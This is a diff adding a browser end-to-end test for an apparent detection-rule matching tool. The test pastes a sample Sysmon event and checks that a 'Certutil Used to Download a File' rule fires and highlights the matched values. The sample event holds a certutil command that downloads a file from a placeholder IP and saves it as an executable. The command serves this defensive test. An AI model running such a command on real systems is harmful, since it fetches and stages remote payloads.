@@ -195,4 +195,24 @@ class BrowserEndToEndTest {
         accessible("matrix");
         noConsoleErrors("matrix");
     }
+
+    @Test
+    @Order(4)
+    void pastingAnEventShowsTheRulesThatFireWithTheMatchedValuesMarked() throws IOException {
+        driver.get(url("/match"));
+        WebElement box = driver.findElement(By.id("event"));
+        box.sendKeys("EventID=1\nChannel=Microsoft-Windows-Sysmon/Operational\nImage=C:\\Windows\\System32\\certutil.exe\n"
+                + "CommandLine=certutil.exe -urlcache -split -f http://203.0.113.7/a.txt a.exe");
+        driver.findElement(By.cssSelector(".match-form button[type=submit]")).click();
+        new WebDriverWait(driver, Duration.ofSeconds(10)).until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("ol.fires li.fire")));
+        assertThat(driver.findElement(By.cssSelector("ol.fires")).getText()).contains("Certutil Used to Download a File");
+        assertThat(driver.findElements(By.cssSelector("ol.fires mark"))).isNotEmpty();
+        screenshot("match");
+        accessible("match");
+        noConsoleErrors("match");
+        // The example links evaluate in one click; the rule's test page traces it.
+        driver.findElement(By.linkText("test this rule")).click();
+        assertThat(driver.findElement(By.tagName("h1")).getText()).isEqualTo("Test an event against this rule");
+        accessible("rule test");
+    }
 }
